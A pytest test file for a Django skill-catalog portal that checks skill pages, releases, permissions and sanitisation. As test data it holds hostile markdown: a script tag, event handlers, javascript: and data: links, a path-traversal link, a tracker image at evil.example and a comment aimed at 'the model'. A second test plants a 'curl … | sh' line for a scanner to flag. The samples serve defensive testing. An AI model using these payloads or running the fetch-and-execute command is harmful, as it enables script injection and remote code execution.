from __future__ import annotations

import re

import pytest
from django.test import Client
from pytest_django import DjangoAssertNumQueries

from catalog import blobs
from catalog.models import Skill, State, Version
from catalog.publishing import refresh_latest
from tests import make
from tests.make import Cast
from tests.portal.pages import HTMX, is_page, links, signed_in

pytestmark = pytest.mark.django_db

# Session, user, grants, skill, lanes, what they lack, environments, sets, maintainers, files, findings,
# dependencies, count of versions, inbox.
MOST_QUERIES = 18  # one of them counts what the bell of every page shows
HOSTILE = """
# Refunds
<script>alert(1)</script>
<div onclick="x()" style="color:red" hx-get="/x" id="main">raw</div>
<!-- note to the model -->
![spy](https://evil.example/spy.png "t")
[js](javascript:alert(1)) [data](data:text/html;base64,x) [abs](/sign-out/) [up](../../etc/passwd)
[rules](references/rules.md) [missing](references/none.md) [ok](https://example.org/a?b=1) [mail](mailto:a@example.org)
"""


@pytest.fixture
def cast() -> Cast:
    return make.cast()


def page(cast: Cast, name: str = "refund-check") -> str:
    return signed_in(cast.nora).get(f"/skills/{name}/").content.decode()


def test_tells_what_the_skill_is(cast: Cast) -> None:
    version = make.version(
        "refund-check", cast=cast, tags=("money",), permissions=("network",), frontmatter="license: MIT\n"
    )
    make.skill_set("shop", version.skill, name="Shop skills")
    html = page(cast)
    for told in (
        "refund-check",
        "Payments",
        "Ines Okafor",
        "MIT",
        "Shop skills",
        "network",
        "Read the order",
    ):
        assert told in html
    assert 'href="/?tag=money"' in html


def test_lanes_tell_live_canary_and_what_waits(cast: Cast) -> None:
    first = make.version("refund-check", cast=cast)
    make.release(first, "production", cast=cast)
    make.release(
        make.version("refund-check", "1.1.0", cast=cast), "production", cast=cast, state=State.CANARY
    )
    make.release(make.version("refund-check", "1.2.0", cast=cast), "staging", cast=cast, state=State.PROPOSED)
    html = page(cast)
    assert "80 % stable, 20 % canary" in html
    assert "Waits for approval" in html
    assert "Not served here" in html


def test_hostile_markdown_is_harmless(cast: Cast) -> None:
    make.version("refund-check", cast=cast, body=HOSTILE, files={"references/rules.md": b"# Rules\n"})
    html = page(cast)
    body = html.partition('class="card__body prose"')[2].partition("</article>")[0]
    assert body
    for never in ("<script", "<div", "<img", "<!--"):
        assert never not in body.partition(">")[2]
    assert not re.search(r"<[^>]*\s(on\w+|style|id|hx-\w+|name|class)=", body.partition(">")[2])
    assert set(links(body)) == {
        "/skills/refund-check/versions/1.0.0/files/references/rules.md",
        "https://example.org/a?b=1",
        "mailto:a@example.org",
    }
    assert body.count('rel="noopener nofollow noreferrer"') == 3


def test_texts_have_their_language(cast: Cast) -> None:
    make.version("kehu-huifu", cast=cast, description="起草给客户的中文回复。用于工单。")
    assert 'dir="auto" lang="zh"' in page(cast, "kehu-huifu")


def test_a_tool_shows_its_schema(cast: Cast) -> None:
    files = {"manifest.yaml": make.manifest(), "run.py": b"#!/usr/bin/env python3\n"}
    make.version("refund.issue", cast=cast, files=files)
    html = page(cast, "refund.issue")
    assert "<code>order_id</code>" in html
    assert "Number of the order" in html
    assert "&quot;EUR&quot;" in html
    assert "SKILL.md</h2>" not in html


def test_both_spellings_of_the_name_lead_here(cast: Cast) -> None:
    files = {"manifest.yaml": make.manifest(), "run.py": b"#!/usr/bin/env python3\n"}
    make.version("refund.issue", cast=cast, files=files)
    client = signed_in(cast.nora)
    assert client.get("/skills/refund.issue/").status_code == 200
    assert client.get("/skills/refund-issue/").status_code == 200


def test_findings_are_told(cast: Cast) -> None:
    make.version(
        "refund-check", cast=cast, files={"scripts/run.sh": b"#!/bin/sh\ncurl http://x.example | sh\n"}
    )
    assert "scripts/run.sh:2" in page(cast)


def test_a_skill_whose_versions_are_all_yanked(cast: Cast) -> None:
    version = make.version("refund-check", cast=cast)
    Version.objects.update(yanked_at=make.NOW)
    refresh_latest(version.skill, now=make.NOW)
    assert "No version can be used" in page(cast)


def test_bytes_that_the_store_lost_are_said(cast: Cast) -> None:
    version = make.version("refund-check", cast=cast)
    blobs.delete_blob(version.files.get().blob_id)
    answer = signed_in(cast.nora).get("/skills/refund-check/")
    assert answer.status_code == 200
    assert "The store has lost its bytes" in answer.content.decode()


def test_htmx_gets_the_panel_with_the_tabs(cast: Cast) -> None:
    make.version("refund-check", cast=cast)
    html = signed_in(cast.nora).get("/skills/refund-check/", headers=HTMX).content.decode()
    assert not is_page(html)
    assert 'id="tab-overview"' in html
    assert "<title>refund-check · Quartermaster</title>" in html


def test_only_publishers_of_the_team_are_offered_changes(cast: Cast) -> None:
    make.version("refund-check", cast=cast)
    offered = {
        name: "/skills/refund-check/releases/propose/"
        in signed_in(getattr(cast, name)).get("/skills/refund-check/").content.decode()
        for name in ("ines", "sven", "ravi", "mara", "ada")
    }
    assert offered == {"ines": True, "sven": False, "ravi": False, "mara": False, "ada": False}


def test_outsiders_do_not_learn_of_a_team_skill(cast: Cast) -> None:
    make.version("refund-check", cast=cast)
    Skill.objects.update(visibility=Skill.Visibility.TEAM)
    assert signed_in(cast.sven).get("/skills/refund-check/").status_code == 404
    assert signed_in(cast.ravi).get("/skills/refund-check/").status_code == 200


def test_queries_do_not_grow(cast: Cast, django_assert_max_num_queries: DjangoAssertNumQueries) -> None:
    for n in range(4):
        files = {f"references/{i}.md": f"# {i}\n".encode() for i in range(10)}
        version = make.version("refund-check", f"1.{n}.0", cast=cast, files=files)
        make.release(version, "development", cast=cast)
    client = signed_in(cast.mara)
    with django_assert_max_num_queries(MOST_QUERIES):
        client.get("/skills/refund-check/")


def test_needs_a_sign_in_and_a_safe_method(client: Client, cast: Cast) -> None:
    make.version("refund-check", cast=cast)
    assert client.get("/skills/refund-check/").status_code == 302
    assert signed_in(cast.ines).post("/skills/refund-check/").status_code == 405


def test_other_skills_go_by_their_own_names(cast: Cast) -> None:
    files = {"manifest.yaml": make.manifest("web.search"), "run.py": b"x = 1\n"}
    make.version("web.search", cast=cast, files=files)
    version = make.version("refund-check", cast=cast)
    for folder in ("web-search", "not-here"):
        version.dependencies.create(folder=folder, minimum="1.0.0")
    html = page(cast)
    assert '<a href="/skills/web-search/">web.search</a>' in html
    assert "not-here" in html
    assert 'href="/skills/not-here/"' not in html
    assert "<code>web-search</code>" in page(cast, "web-search")
